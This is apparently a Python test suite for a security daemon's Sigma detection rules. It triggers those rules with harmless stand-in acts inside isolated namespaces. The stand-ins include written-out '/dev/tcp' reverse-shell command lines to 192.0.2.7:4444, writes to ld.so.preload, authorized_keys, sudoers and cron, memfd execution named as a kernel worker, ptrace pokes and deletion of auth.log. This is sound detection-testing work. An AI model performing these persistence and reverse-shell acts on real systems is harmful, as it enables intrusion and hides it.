# SPDX-License-Identifier: Apache-2.0
"""The Sigma solution with its bundled rules, on real events of a real daemon.

Every act happens in namespaces of its own, of mounts and of network: what it writes below /etc,
/var, /dev/shm or /root is in memory and gone with it, and no packet leaves.  Programs are copies
of /bin/true with the name and the arguments that a rule looks for, so they do nothing.
"""

import contextlib
import ctypes
import json
import os
import re
import shutil
import subprocess
import time

import lib
from lib import case, equal, require, wait_until

PACKAGE = lib.STAGE + "/usr/libexec/ringfort/solutions/sigma"
RULES = PACKAGE + "/rules"
DATA = os.environ.get("RINGFORT_DATA") or os.path.join(os.path.dirname(lib.ROOT), "shared", "data")
CLONE_NEWNET = 0x40000000
MS_REC, MS_PRIVATE = 0x4000, 1 << 18
HIDDEN = ("/etc", "/var", "/dev/shm", "/root", "/mnt", "/tmp", "/opt")
SIGMA = "sigma"
PYTHON = "/usr/bin/python3"  # not one below /root, which is hidden


class Bundled:
    """The package as it is installed; content: folders that the configuration names instead."""

    name, program = SIGMA, SIGMA

    def write(self, folder):
        package = os.path.join(folder, self.name)
        shutil.copytree(PACKAGE, package)
        return package


class Sigma:
    """One daemon with the bundled rules, for all cases that need no other."""

    _made = None

    @classmethod
    def get(cls):
        if cls._made is None:
            cls._made = cls()
        return cls._made

    def __init__(self, content=()):
        lib.need_root()
        self.daemon = lib.Daemon([Bundled()])
        if content:
            self.daemon.stop()
            with open(self.daemon.config, "a") as file:
                file.write("    content: " + json.dumps(list(content)) + "\n")
            self.daemon.start()
        wait_until(lambda: self.daemon.solution(SIGMA)["state"] == "active", 30, "sigma is active")
        self.findings = lib.Follower(self.daemon, "findings", "-f")
        time.sleep(0.3)

    def of(self, rule, pid):
        for line in list(self.findings.lines):
            mine = line["ringfort"]
            if mine["rule_id"] == rule and mine["process"]["pid"] == pid:
                return line
        return None

    def wait(self, rule, pid, what, seconds=8):
        return wait_until(lambda: self.of(rule, pid), seconds, f"a finding of {rule} for {what}")["ringfort"]


def bundled():
    """Rules by id, as their files say: what stands on a line of its own, and lists of lines."""
    rules = {}
    for name in os.listdir(RULES):
        with open(f"{RULES}/{name}") as file:
            text = file.read()
        rule = dict(re.findall(r"^(\w+): *(\S.*)$", text, re.M))
        for member in ("references", "tags"):
            block = re.search(rf"^{member}:\n((?: +- .*\n)+)", text, re.M)
            rule[member] = re.findall(r"- (.*)", block[1]) if block else []
        rules[rule["id"]] = rule
    return rules


def members_of(text):
    """Of { Name: 'value', ... }: the strings; None for what is no string."""
    return {name: value.replace("''", "'") if value else None
            for name, value in re.findall(r"(\w+): (?:'((?:[^']|'')*)'|[^',}]+)", text)}


def apart():
    """In a child before exec: what follows stays in memory, and on this machine."""
    lib.die_with_us()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(lib.CLONE_NEWNS | CLONE_NEWNET) or \
            libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None):
        os._exit(125)
    for path in HIDDEN:
        if os.path.isdir(path) and libc.mount(b"tmpfs", path.encode(), b"tmpfs", 0, b"mode=755"):
            os._exit(125)


def act(code, *arguments):
    """Run Python in namespaces of its own.  Return: the pid that did what counts.

    The code has `arguments`, put(path) for a copy of /bin/true, copy(program, path), and
    play(path, argv), which becomes that program in a child; own(path) makes a path that no other
    act has: a test beside this one does the same, and findings that are the same are folded.
    """
    prelude = """
import ctypes, json, os, shutil, signal, socket, subprocess, sys, time
arguments = json.loads(sys.argv[1])
true = open('/bin/true', 'rb').read()
def put(path, data=true):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as file:
        file.write(data)
    os.chmod(path, 0o755)
def own(path):
    for folder in '/tmp/', '/var/tmp/', '/dev/shm/', '/opt/':
        if path.startswith(folder):
            return folder + '%d/' % os.getpid() + path[len(folder):]
    return '/mnt/%d' % os.getpid() + path
def copy(program, path):
    put(path, open(program, 'rb').read())
    return path
def wait(pid):
    os.waitpid(pid, 0)
    print(pid)
def play(path, argv, env=None, prepare=lambda: None):
    pid = os.fork()
    if not pid:
        prepare()
        os.execve(path, argv, os.environ if env is None else env)
    wait(pid)
def child(function):
    pid = os.fork()
    if not pid:
        try:
            function()
        except OSError as error:
            sys.stderr.write(str(error))
        os._exit(0)
    wait(pid)
"""
    done = subprocess.run([PYTHON, "-I", "-c", prelude + code, json.dumps(arguments)],
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=30,
                          preexec_fn=apart, cwd="/")
    require(done.returncode == 0 and done.stdout and not done.stderr, "the act failed:", done.returncode,
            done.stderr[-400:])
    return [int(line) for line in done.stdout.split()]


# ---- every rule about executions ------------------------------------------------------------------

PLAY = """
for number, (image, line, parent) in enumerate(arguments):
    path = own(image if image.startswith(('/tmp/', '/var/', '/dev/shm/', '/opt/')) else '/%d%s' % (number, image))
    put(path)
    if not parent:
        play(path, line.split(' '))
        continue
    # A parent of that name: an interpreter under another one.
    parent = copy(sys.executable, own(parent))
    code = 'import os,sys\\npid=os.fork()\\nif not pid: os.execv(sys.argv[1], sys.argv[2:])\\nos.waitpid(pid,0)\\nprint(pid)'
    sys.stdout.flush()
    print(int(subprocess.run([parent, '-I', '-c', code, path, *line.split(' ')], stdout=subprocess.PIPE,
                             check=True, env={'PYTHONHOME': sys.prefix}).stdout))
"""


def executions():
    """From the tests beside the rules: those that need no more than a name and arguments."""
    rule = expected = None
    with open(lib.ROOT + "/solutions/sigma/rule-tests.yaml") as file:
        for line in file:
            if line.startswith("- rule: "):
                rule = line.split()[-1]
            elif line.strip() in ("found:", "not_found:"):
                expected = line.strip() == "found:"
            elif line.strip().startswith("- {"):
                event = members_of(line)
                if {"Image", "CommandLine"} <= set(event) <= {"Image", "CommandLine", "ParentImage"}:
                    yield rule, expected, event


@case("each bundled rule about executions finds a real one, and not its harmless sibling")
def exec_rules():
    sigma = Sigma.get()
    events = list(executions())
    pids = []
    for at in range(0, len(events), 10):
        pids += act(PLAY, *[(e["Image"], e["CommandLine"], e.get("ParentImage")) for _, _, e in events[at:at + 10]])
        time.sleep(0.5)  # a solution may tell 100 findings a second
    equal(len(pids), len(events), "acts")
    found = {rule for rule, expected, _ in events if expected}
    require(len(found) >= 30, "only", len(found), "rules were tried")
    for (rule, expected, event), pid in zip(events, pids):
        if expected:
            sigma.wait(rule, pid, event)
    for (rule, expected, event), pid in zip(events, pids):
        require(expected or not sigma.of(rule, pid), "found, but harmless:", rule, event)
    require(len(events) - sum(e for _, e, _ in events) >= 30, "too few siblings")
    lib.figure(f"{len(found)} rules, {len(events)} executions")


# ---- the other rules ---------------------------------------------------------------------------------

WRITE = "folder = os.path.dirname(arguments[0]); os.makedirs(folder, exist_ok=True); " + \
        "play(copy('/bin/sh', own('/writer')), ['sh', '-c', 'echo x > ' + arguments[0]])"
MEMFD = """
def become():
    fd = os.memfd_create('own%d' % os.getpid(), 0)
    os.write(fd, true)
    os.execve(fd, ['[kworker/0:1]'], {})
child(become)
"""
DELETED = """
path = own('/opt/x')
put(path)
def become():
    fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
    os.unlink(path)
    os.execve(fd, ['x'], {})
child(become)
"""
PRELOAD = "play(copy('/bin/true', own('/true')), ['true'], {arguments[0]: arguments[1]})"
SOCKET_SHELL = """
a, b = socket.socketpair()
def prepare():
    os.dup2(b.fileno(), 0)
    os.dup2(b.fileno(), 1)
play(copy('/bin/sh', own('/sh')), ['sh', '-c', ':'], None, prepare if arguments[0] else lambda: None)
"""
POKE = """
libc = ctypes.CDLL(None)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
word = ctypes.create_string_buffer(16)
def poke():
    pid = os.fork()
    if not pid:
        libc.ptrace(0, 0, None, None)
        os.kill(os.getpid(), signal.SIGSTOP)
        os._exit(0)
    os.waitpid(pid, os.WUNTRACED)
    if arguments[0]:
        libc.ptrace(5, pid, ctypes.addressof(word), None)
    libc.ptrace(17, pid, None, None)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
child(poke)
"""
CHMOD = "path = own('/tmp/sh'); put(path); child(lambda: os.chmod(path, arguments[0]))"
UNLINK = "path = '%s.%d' % (arguments[0], os.getpid()); put(path); child(lambda: os.unlink(path))"
CONNECT = """
path = copy(sys.executable, own(arguments[0]))
play(path, [path, '-I', '-c', 'import socket\\ns=socket.socket()\\ns.settimeout(1)\\n' +
            'try: s.connect((%r, %d))\\nexcept OSError: pass' % tuple(arguments[1:])], {'PYTHONHOME': sys.prefix})
"""
ACCEPT = """
import fcntl, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def set_flags(name): fcntl.ioctl(s, 0x8914, struct.pack('16sH14x', name, 0x49))
def set_address(name, ip): fcntl.ioctl(s, 0x8916, struct.pack('16sHH4s8x', name, 2, 0, socket.inet_aton(ip)))
set_flags(b'lo')
set_address(b'lo:1', '192.0.2.7')
path = copy(sys.executable, own('/nc'))
play(path, [path, '-I', '-c', 'import socket\\nl=socket.create_server((%r, 4444))\\nc=socket.create_connection((%r, 4444))\\nl.accept()'
            % (arguments[0], arguments[0])], {'PYTHONHOME': sys.prefix})
"""

# Rule, act, arguments that must be found, arguments that must not.
ACTS = [
    ("b0ac0a44-9157-4722-8b14-d0111cc50c9b", MEMFD, [], None),
    ("4dd61422-abb9-42dc-a3ce-217933448e66", DELETED, [], None),
    ("8d13db0a-9871-4b63-9f8d-b3dd608cce5e", PRELOAD, ["LD_PRELOAD", os.path.realpath("/lib64/ld-linux-x86-64.so.2")], ["LD_BIND_NOW", "1"]),
    ("4a49c276-5bb1-41d2-b088-062472409f4d", SOCKET_SHELL, [True], [False]),
    ("a9fa3ab3-95eb-4842-84a1-29b410c7913f", POKE, [True], [False]),
    ("78e0d453-b67b-4a05-8320-02f59f5d6d07", WRITE, ["/etc/ld.so.preload"], ["/etc/ld.so.conf"]),
    ("3a50de6d-e4db-428a-b57f-5affe06252ab", WRITE, ["/etc/systemd/system/updater.service"], ["/etc/systemd/journald.conf"]),
    ("3c17f038-31cc-481d-85b1-442b2a6afba5", WRITE, ["/etc/cron.d/sysupdate"], ["/etc/cron.allow"]),
    ("dfa5712b-9eef-4e41-8a30-419afeeb6f81", WRITE, ["/etc/pam.d/sshd"], ["/etc/pam.conf"]),
    ("8b12ab63-d4ea-4e65-b14f-ab7a929a0779", WRITE, ["/dev/shm/.x"], ["/dev/shm/sem.app"]),
    ("798629ae-ae6c-402a-a12c-06c7f2ad773e", WRITE, ["/root/.ssh/authorized_keys"], ["/root/.ssh/known_hosts"]),
    ("7945ff11-ea6c-46ed-a869-cef4c242b397", WRITE, ["/etc/sudoers.d/zz"], ["/etc/sudo.conf"]),
    ("6491d0e0-2033-4af9-9ee1-1befaca455d0", WRITE, ["/etc/passwd"], ["/etc/passwd.lock"]),
    ("e0f987b9-a919-4c2b-9860-472f354e73e2", WRITE, ["/root/.bashrc"], ["/root/.vimrc"]),
    ("f6414751-9935-4a67-b99f-c70f1747a812", WRITE, ["/opt/x/release_agent"], ["/opt/x/notify_on_release"]),
    ("78e89bda-b9d9-414b-8ad0-07f3e28b5b18", UNLINK, ["/var/log/auth.log"], ["/var/log/app/x.log"]),
    ("e3bf71df-27b4-403e-8646-d7c26d43375e", CHMOD, [0o4755], [0o755]),
    ("183cd9d1-7d5e-4650-bf59-2e054a0b7202", CONNECT, ["/bash", "192.0.2.7", 4444], ["/bash", "192.0.2.53", 53]),
    ("d5863b09-d141-4b58-93d3-5403a8c306a2", CONNECT, ["/tmp/x", "192.0.2.7", 443], ["/tmp/x", "127.0.0.1", 80]),
    ("d3e3414f-14fc-424f-abdc-509ad2573642", CONNECT, ["/x", "192.0.2.7", 3333], ["/x", "10.1.2.3", 3333]),
    ("db4c376b-3783-4600-8e22-cd8e3948fad1", ACCEPT, ["192.0.2.7"], ["127.0.0.1"]),
]


@case("each bundled rule about files, connections and other processes finds a real act, and not its sibling")
def other_rules():
    sigma = Sigma.get()
    tried = []
    for rule, code, bad, good in ACTS:
        tried.append((rule, act(code, *bad)[-1], bad, True))
        if good is not None:
            tried.append((rule, act(code, *good)[-1], good, False))
    missing = []
    for rule, pid, what, expected in tried:
        if expected:
            try:
                sigma.wait(rule, pid, what, 5)
            except lib.Failure:
                missing.append((rule, what))
    require(not missing, "no finding of", missing)
    for rule, pid, what, expected in tried:
        require(expected or not sigma.of(rule, pid), "found, but harmless:", rule, what)
    every = {rule for rule, _, _, _ in tried} | {rule for rule, expected, _ in executions() if expected}
    equal(sorted(set(bundled()) - every), [], "bundled rules that no act tries")


@case("a finding says rule, title, level, author, references, tags, matched fields, process and ancestors")
def members():
    sigma = Sigma.get()
    rule = bundled()["22825647-d55f-4c69-b23f-ccd69c091527"]
    line = "bash -c members >& /dev/tcp/192.0.2.7/4444"
    pid = act(PLAY, ("/usr/bin/bash", line, None))[0]
    mine = sigma.wait(rule["id"], pid, line)
    for member in ("title", "level", "author"):
        equal(mine[member], rule[member], member)
    equal(mine["references"], rule.get("references", []), "references")
    equal(mine["tags"], rule["tags"], "tags")
    equal(mine["matched"], {"CommandLine": line}, "matched")
    equal(mine["solution"], SIGMA, "solution")
    equal(mine["process"]["argv"], line.split(" "), "argv")
    require(re.fullmatch(r"/mnt/\d+/0/usr/bin/bash", mine["process"]["exe"]), "exe:", mine["process"]["exe"])
    equal(mine["process"]["uid"], 0, "uid")
    require(any(os.path.basename(a).startswith("python") for a in mine["process"]["ancestors"]),
            "ancestors:", mine["process"].get("ancestors"))


# ---- two paths of one program ------------------------------------------------------------------------

RULE = """title: {title}
id: 6c1f8e0a-0000-4000-8000-{number:012x}
author: the test
logsource: {source}
detection:
  selection:
    {field}: '{value}'
  other:
    {more}
  condition: selection and other
level: low
"""


def rule(number, title, field, value, more, source="{product: linux, category: process_creation}"):
    return RULE.format(number=number, title=title, field=field, value=value, more=more, source=source)


def own_rules(folder, *texts):
    """A folder of rules beside the bundled ones."""
    os.makedirs(folder)
    for number, text in enumerate(texts):
        with open(f"{folder}/{number}.yml", "w") as file:
            file.write(text)
    os.chmod(folder, 0o755)
    return folder


def identity(number):
    return f"6c1f8e0a-0000-4000-8000-{number:012x}"


LINKED = """
put(own('/box/busybox'))
os.symlink('busybox', own('/box/wget'))
play(own('/box/wget'), ['wget', 'matched-as-%d' % os.getpid()])
play('/bin/sh', ['sh', '-c', ':', 'matched-as-%d' % os.getpid()])
"""
# Fields of auditd: name, value, condition beside it, and the shell's words that cause it.
AUDITD = [
    ("a1", "auditd-live-mark", "type: EXECVE", ["/bin/true", "auditd-live-mark"]),
    ("name|endswith", "/auditd-live-file", "{type: PATH, nametype: CREATE}", ["/bin/sh", "-c", ": > /opt/auditd-live-file"]),
    ("SYSCALL", "rmdir", "{type: SYSCALL, name|endswith: /auditd-live-folder, comm: rmdir, exe: /usr/bin/rmdir}",
     ["/bin/sh", "-c", "mkdir /opt/auditd-live-folder; exec rmdir /opt/auditd-live-folder"]),
    ("name|endswith", "/auditd-live-moved", "{type: PATH, nametype: DELETE}",
     ["/bin/sh", "-c", ": > /opt/auditd-live-moved; exec mv /opt/auditd-live-moved /opt/away"]),
]


def own_content():
    link = "CommandLine|contains: matched-as-"
    texts = [rule(1, "the file", "Image|endswith", "/box/busybox", link), rule(2, "the link", "Image|endswith", "/box/wget", link),
             rule(3, "either", "Image|contains", "/box/", link),
             rule(4, "dash", "Image|endswith", "/dash", link), rule(5, "sh", "Image", "/bin/sh", link)]
    texts += [rule(16 + i, f"auditd {i}", field, value, more, "{product: linux, service: auditd}")
              for i, (field, value, more, _) in enumerate(AUDITD)]
    return texts


class Own(Sigma):
    """A daemon whose configuration names more content: the bundled rules, ours, and SigmaHQ's."""

    _made = None

    def __init__(self):
        folder = own_rules(lib.temporary("own") + "/rules", *own_content())
        self.has_data = os.path.isdir(DATA + "/sigma-linux/rules")
        theirs = []
        if self.has_data:
            # The solution's process has a user of its own, who may not read everybody's folders.
            theirs = [shutil.copytree(DATA + "/sigma-linux/rules", folder + "-theirs")]
        super().__init__([RULES, folder, *theirs])


@case("matched_as says whether the file, the path as called, or both were found")
def matched_as():
    sigma = Own.get()
    linked, shell = act(LINKED)
    for number, pid, expected in ((1, linked, "resolved"), (2, linked, "called"), (3, linked, "both"),
                                  (4, shell, "resolved"), (5, shell, "called")):
        equal(sigma.wait(identity(number), pid, expected)["matched_as"], expected, f"matched_as of rule {number}")


@case("the same act twenty times is told at once, and then as one finding with a count")
def folded():
    sigma = Sigma.get()
    rule_id, line = "22825647-d55f-4c69-b23f-ccd69c091527", "bash -c folded >& /dev/tcp/192.0.2.7/4444"
    pids = act("path = own('/bash')\nput(path)\nfor i in range(20): play(path, arguments)", *line.split(" "))
    equal(len(pids), 20, "acts")

    def told():
        return [f["ringfort"] for f in list(sigma.findings.lines)
                if f["ringfort"]["rule_id"] == rule_id and f["ringfort"]["process"]["pid"] in pids]
    sigma.wait(rule_id, pids[0], line)
    wait_until(lambda: sum(f["count"] for f in told()) == 20, 20, lambda: f"20 in {[f['count'] for f in told()]}")
    equal([f["count"] for f in told()], [1, 19], "counts")


@case("rules for auditd's EXECVE, PATH and SYSCALL records are fed from real events")
def auditd():
    sigma = Own.get()
    for number, (field, value, more, words) in enumerate(AUDITD):
        pid = act("play(arguments[0], arguments)", *words)[0]
        mine = sigma.wait(identity(16 + number), pid, words)
        require(mine["matched"].get(field.split("|")[0]), "matched:", mine["matched"])
    pid = act("play(arguments[0], arguments)", "/bin/true", "auditd-live", "mark")[0]
    act("play(arguments[0], arguments)", *AUDITD[0][3])
    require(not sigma.of(identity(16), pid), "an execution without the argument was found")


@case("SigmaHQ's Linux rules load beside the bundled ones by the configuration, and find")
def sigmahq():
    sigma = Own.get()
    if not sigma.has_data:
        raise lib.Skip("no SigmaHQ rules in " + DATA + ": set RINGFORT_DATA")
    state = sigma.daemon.solution(SIGMA)
    said = re.match(r"(\d+) loaded, (\d+) refused, (\d+) no source", state["said"])
    require(said, "said:", state["said"])
    require(int(said[1]) > 150, "rules loaded:", said[0])
    equal(state["restarts"], 0, "restarts")
    lib.figure(said[0])
    # Theirs, "Linux Base64 Encoded Shebang In CLI", and ours from the same daemon.
    pid = act(PLAY, ("/usr/bin/echo", "echo IyEvYmluL2Jhc2g sigmahq-live", None))[0]
    sigma.wait("fe2f9663-41cb-47e2-b954-8a228f3b9dff", pid, "a shebang in base64")
    pid = act(PLAY, ("/usr/bin/bash", "bash -c sigmahq >& /dev/tcp/192.0.2.7/4444", None))[0]
    sigma.wait("22825647-d55f-4c69-b23f-ccd69c091527", pid, "/dev/tcp")


if __name__ == "__main__":
    lib.main()
